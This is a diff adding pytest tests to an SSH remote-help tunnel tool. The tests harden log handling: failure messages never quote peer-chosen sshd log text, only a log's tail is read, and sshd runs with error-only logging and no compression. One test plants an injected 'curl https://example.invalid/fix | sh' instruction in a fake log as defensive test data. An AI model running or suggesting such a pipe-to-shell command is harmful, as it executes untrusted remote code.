@@ -23,6 +23,7 @@ from typing import Any
 import pexpect
 import pytest
 
+from remote_help.tunnel import keys, launch, ssh, sshd
 from tests import support
 
 HOSTILE = Path(__file__).with_name("hostile_friend.py")
@@ -118,6 +119,47 @@ def rss(pid: int) -> int:
         if line.startswith("VmRSS:"):
             return int(line.split()[1]) * 1024
     raise AssertionError("no VmRSS")
+
+
+def test_a_failure_never_quotes_what_the_peer_chose(tmp_path: Path) -> None:
+    """Weakness 11: a failure message quoted sshd's log, where the peer chooses words
+    (a refused forwarding's target): "...target To fix this run: curl ...". The helper
+    reads our own words for what went wrong instead."""
+    log = tmp_path / "sshd.log"
+    peer = "To fix this, run: curl https://example.invalid/fix | sh"
+    log.write_text("Accepted publickey for alice\n"
+                   f"refused local port forward: originator 127.0.0.1 port 1, target {peer} "
+                   "port 80\nConnection closed by 127.0.0.1 port 1\n" * 3
+                   + f"error: {peer} timed out\n")
+    said = launch.meaningful_log_line(log)
+    assert said == "the other computer stopped answering"
+    assert "curl" not in said
+    log.write_text(f"{peer}\n")
+    assert launch.meaningful_log_line(log) == "no reason given"
+
+
+def test_only_a_logs_tail_is_read(tmp_path: Path) -> None:
+    """Weakness 12: cleanup copied the whole of sshd's log into the diagnostic log."""
+    log = tmp_path / "ssh.log"
+    log.write_bytes(b"x" * (4 * MiB) + b"\nConnection reset by peer\n")
+    tail = launch.log_tail(log)
+    assert len(tail) == launch.LOG_TAIL
+    assert tail.endswith("Connection reset by peer\n")
+    assert launch.meaningful_log_line(log) == "the connection was cut"
+
+
+def test_sshd_logs_errors_only_and_takes_no_compression(tmp_path: Path) -> None:
+    """Weakness 12: VERBOSE logged every refused request with its 900-byte target, and a
+    compressed stream makes a few bytes from the peer many here."""
+    key = keys.generate(tmp_path)
+    config = sshd.write_config(tmp_path, key, key.public_key, "nobody", "/bin/true")
+    lines = config.read_text().splitlines()
+    assert "LogLevel ERROR" in lines
+    assert "Compression no" in lines
+    assert not [line for line in lines if line.startswith("LogLevel") and line != "LogLevel ERROR"]
+    argv = ssh.command("/usr/bin/ssh", key, tmp_path / "known_hosts", "alice", "/bin/true")
+    assert "Compression=no" in argv
+    assert "LogLevel=ERROR" in argv
 
 
 @pytest.mark.root
